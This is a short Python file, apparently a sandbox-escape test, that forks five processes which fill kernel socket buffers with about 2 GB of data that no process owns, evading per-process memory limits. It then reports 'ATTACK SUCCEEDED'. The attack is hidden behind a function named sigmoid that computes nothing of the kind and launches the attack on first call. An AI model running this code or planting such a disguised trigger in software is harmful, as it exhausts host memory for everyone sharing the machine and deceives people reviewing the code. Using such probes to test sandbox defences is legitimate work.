"""Goal: fill memory with what waits in sockets, which belongs to no process.

Without a sandbox: unsafe
"""

import os
import socket
import time

CHILDREN, MIB = 5, 400


def fill():
    kept, held, piece = [], 0, bytes(1 << 16)
    while held < MIB << 20:
        pair = socket.socketpair()
        kept.extend(pair)
        for end in pair:
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            try:
                while held < MIB << 20:
                    held += end.send(piece)
            except BlockingIOError:
                pass
    time.sleep(60)


def attack():
    try:
        for _ in range(CHILDREN):
            if os.fork() == 0:
                fill()
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}")
    time.sleep(2)
    if os.waitpid(-1, os.WNOHANG) == (0, 0):
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB of memory in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
